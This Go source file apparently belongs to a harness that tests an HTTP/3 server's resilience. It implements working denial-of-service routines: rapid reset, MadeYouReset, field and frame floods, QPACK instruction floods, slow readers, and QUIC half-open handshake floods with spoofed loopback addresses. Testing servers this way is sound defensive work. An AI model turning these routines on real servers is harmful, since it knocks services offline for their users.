package attack

import (
	"context"
	"io"
	"math/rand/v2"
	"net"
	"time"

	"github.com/quic-go/quic-go"
	"github.com/quic-go/quic-go/quicvarint"
)

// overQUIC attacks HTTP/3.
var overQUIC = []attack{
	{
		name: "h3-rapid-reset", attackers: 2, front: withH3,
		about: "requests whose answers are given up at once (CVE-2023-44487)",
		run:   requests(getH3("/"), giveUp),
	},
	{
		name: "h3-made-you-reset", attackers: 2, front: withH3,
		about: "requests that are malformed, so that the server resets them (CVE-2025-8671)",
		run:   requests(frameH3(h3Headers, append(sectionH3("/"), 0x21, 'A', 0)), read), // a name in capitals
	},
	{
		name: "h3-empty-fields", attackers: 8, front: withH3,
		about: "field sections of 8,000 fields without name and value, 16 KB each (RFC 9114 section 4.2)",
		run:   requests(frameH3(h3Headers, append([]byte{0, 0}, repeat([]byte{0x20, 0}, 8000)...)), giveUp),
	},
	{
		name: "h3-empty-data", attackers: 2, front: withH3,
		about: "empty DATA frames on a request that does not end (RFC 9114 section 10.5)",
		run: func(ctx context.Context, a *attacker) error {
			c, err := dialH3(ctx, a, normal)
			if err != nil {
				return err
			}
			str, err := c.OpenStreamSync(ctx)
			if err != nil {
				return err
			}
			if _, err := str.Write(getH3("/upload")); err != nil {
				return err
			}
			return write(str, frameH3(h3Data, nil), a)
		},
	},
	{
		name: "h3-frames", attackers: 2, front: withH3,
		about: "frames of a type that means nothing on the control stream (RFC 9114 section 7.2.8)",
		run:   control(nil, frameH3(0x21, nil)),
	},
	{
		name: "h3-priorities", attackers: 2, front: withH3,
		about: "PRIORITY_UPDATE frames for a stream that is not there yet (RFC 9218 section 7.2)",
		run:   control(nil, frameH3(0xf0700, []byte("\x00u=1"))),
	},
	{
		name: "h3-qpack", attackers: 2, front: withH3,
		about: "instructions that set the size of the dynamic table, to none (RFC 9204 section 4.3.1)",
		run:   control([]byte{2}, []byte{0x20}),
	},
	{
		name: "h3-streams", attackers: 2, front: withH3,
		about: "unidirectional streams of a type that means nothing (RFC 9114 section 6.2.3)",
		run: func(ctx context.Context, a *attacker) error {
			c, err := dialH3(ctx, a, normal)
			if err != nil {
				return err
			}
			for {
				str, err := c.OpenUniStreamSync(ctx)
				if err != nil {
					return err
				}
				str.Write([]byte{0x21})
				str.Close()
				a.sent.Add(1)
			}
		},
	},
	{
		name: "h3-fields", attackers: 10, front: withH3,
		about: "100 requests on each connection for 64 KB of fields, with a window of 2 KB for all of them",
		run:   unreadH3("/fields?kb=64"),
	},
	{
		name: "h3-slow-readers", attackers: 10, front: withH3,
		about: "100 requests on each connection for 4 MiB, with a window of 2 KB for all of them",
		run:   unreadH3("/large"),
	},
	{
		name: "h3-half-open", attackers: 32, front: withH3,
		about: "handshakes that go no further than the first packets (RFC 9000 section 21.2)",
		run: func(ctx context.Context, a *attacker) error {
			return halfOpen(ctx, a, func() net.IP { return hostile })
		},
	},
	{
		name: "h3-spoofed", attackers: 32, front: withH3,
		about: "the same, each from another address",
		run: func(ctx context.Context, a *attacker) error {
			return halfOpen(ctx, a, func() net.IP {
				if hostile == nil {
					return nil
				}
				return net.IPv4(127, 1, byte(rand.IntN(256)), byte(1+rand.IntN(254)))
			})
		},
	},
}

// giveUp ends a request whose answer is not read.
func giveUp(str *quic.Stream) {
	str.Close()
	str.CancelRead(h3Cancelled)
}

// read ends a request and reads what comes, so that only the server resets.
func read(str *quic.Stream) {
	str.Close()
	go io.Copy(io.Discard, str)
}

// requests sends one request after another, as many at a time as the server allows.
func requests(request []byte, end func(str *quic.Stream)) func(context.Context, *attacker) error {
	return func(ctx context.Context, a *attacker) error {
		c, err := dialH3(ctx, a, normal)
		if err != nil {
			return err
		}
		for {
			str, err := c.OpenStreamSync(ctx)
			if err != nil {
				return err
			}
			if _, err := str.Write(request); err != nil && c.Context().Err() != nil {
				return err
			}
			end(str)
			a.sent.Add(1)
		}
	}
}

// control sends a frame or an instruction again and again, on the control stream or on another one whose type is first.
func control(first, again []byte) func(context.Context, *attacker) error {
	return func(ctx context.Context, a *attacker) error {
		c, err := dialH3(ctx, a, normal)
		if err != nil {
			return err
		}
		str := c.control
		if len(first) > 0 {
			if str, err = c.OpenUniStream(); err != nil {
				return err
			}
			if _, err := str.Write(first); err != nil {
				return err
			}
		}
		return write(str, again, a)
	}
}

// write sends b without pause, many at a time.
func write(w io.Writer, b []byte, a *attacker) error {
	const batch = 500
	for all := repeat(b, batch); ; a.sent.Add(batch) {
		if _, err := w.Write(all); err != nil {
			return err
		}
	}
}

// unreadH3 asks a hundred times, and reads nothing.
func unreadH3(path string) func(context.Context, *attacker) error {
	return func(ctx context.Context, a *attacker) error {
		c, err := dialH3(ctx, a, narrow)
		if err != nil {
			return err
		}
		for range 100 {
			str, err := c.OpenStreamSync(ctx)
			if err != nil {
				return err
			}
			if _, err := str.Write(getH3(path)); err != nil {
				return err
			}
			str.Close()
			a.sent.Add(1)
		}
		select {
		case <-ctx.Done():
		case <-c.Context().Done():
		}
		return context.Cause(c.Context())
	}
}

// halfOpen begins handshakes and answers nothing.
func halfOpen(ctx context.Context, a *attacker, from func() net.IP) error {
	for ctx.Err() == nil {
		udp, err := net.ListenUDP("udp4", &net.UDPAddr{IP: from()})
		if err != nil {
			return err
		}
		by := &quic.Transport{Conn: &mute{PacketConn: udp, left: 2}} // a ClientHello of today has two packets
		short, cancel := context.WithTimeout(ctx, 10*time.Millisecond)
		c, err := by.Dial(short, udpAddr(a.addr[withH3]), clientTLS(), nil)
		if cancel(); err == nil {
			c.CloseWithError(0, "")
		}
		by.Close()
		udp.Close()
		a.sent.Add(1)
	}
	return nil
}

// mute is a socket that sends so many packets and receives none. The Transport writes one after the other.
type mute struct {
	net.PacketConn
	left int
}

func (m *mute) WriteTo(p []byte, to net.Addr) (int, error) {
	if m.left <= 0 {
		return len(p), nil
	}
	m.left--
	return m.PacketConn.WriteTo(p, to)
}

// SetReadBuffer keeps quic-go from logging that it cannot.
func (m *mute) SetReadBuffer(int) error { return nil }

// SetWriteBuffer is as SetReadBuffer.
func (m *mute) SetWriteBuffer(int) error { return nil }

func (m *mute) ReadFrom(p []byte) (int, net.Addr, error) {
	for {
		if _, _, err := m.PacketConn.ReadFrom(p); err != nil {
			return 0, nil, err
		}
	}
}

// Types of frames, the control stream's, and a code (RFC 9114 sections 6.2.1, 7.2 and 8.1).
const (
	h3Data, h3Headers, h3Settings = 0, 1, 4
	h3Control                     = 0
	h3Cancelled                   = 0x10c
)

func frameH3(kind uint64, payload []byte) []byte {
	b := quicvarint.Append(quicvarint.Append(nil, kind), uint64(len(payload)))
	return append(b, payload...)
}

// sectionH3 is the field section of a GET, by the static table (RFC 9204 appendix A).
func sectionH3(path string) []byte {
	b := []byte{0, 0, 0xc0 | 17, 0xc0 | 23} // no dynamic table; GET, https
	b = append(b, 0x50, byte(len("target")))
	b = append(append(b, "target"...), 0x51, byte(len(path)))
	return append(b, path...)
}

func getH3(path string) []byte { return frameH3(h3Headers, sectionH3(path)) }

// quicConn is an attacker's connection.
type quicConn struct {
	*quic.Conn
	control *quic.SendStream
}

// Windows for what is received, in bytes: narrow has room for the server's settings (RFC 9114 section 6.2).
const normal, narrow = 1 << 20, 2 << 10

// dialH3 opens a connection of HTTP/3, and closes it when ctx ends.
func dialH3(ctx context.Context, a *attacker, window uint64) (quicConn, error) {
	udp, err := net.ListenUDP("udp4", &net.UDPAddr{IP: hostile})
	if err != nil {
		return quicConn{}, err
	}
	by := &quic.Transport{Conn: udp}
	end := func() {
		by.Close()
		udp.Close()
	}
	shake, cancel := context.WithTimeout(ctx, 2*time.Second)
	defer cancel()
	c, err := by.Dial(shake, udpAddr(a.addr[withH3]), clientTLS(), &quic.Config{
		InitialStreamReceiveWindow: window, MaxStreamReceiveWindow: window,
		InitialConnectionReceiveWindow: window, MaxConnectionReceiveWindow: window,
	})
	if err != nil {
		end()
		return quicConn{}, err
	}
	context.AfterFunc(ctx, func() { c.CloseWithError(0, "") })
	context.AfterFunc(c.Context(), end)
	str, err := c.OpenUniStream()
	if err == nil {
		_, err = str.Write(append([]byte{h3Control}, frameH3(h3Settings, nil)...))
	}
	if err != nil {
		c.CloseWithError(0, "")
	}
	return quicConn{c, str}, err
}

func udpAddr(addr string) *net.UDPAddr {
	to, err := net.ResolveUDPAddr("udp4", addr)
	if err != nil {
		panic(err) // it was chosen here
	}
	return to
}
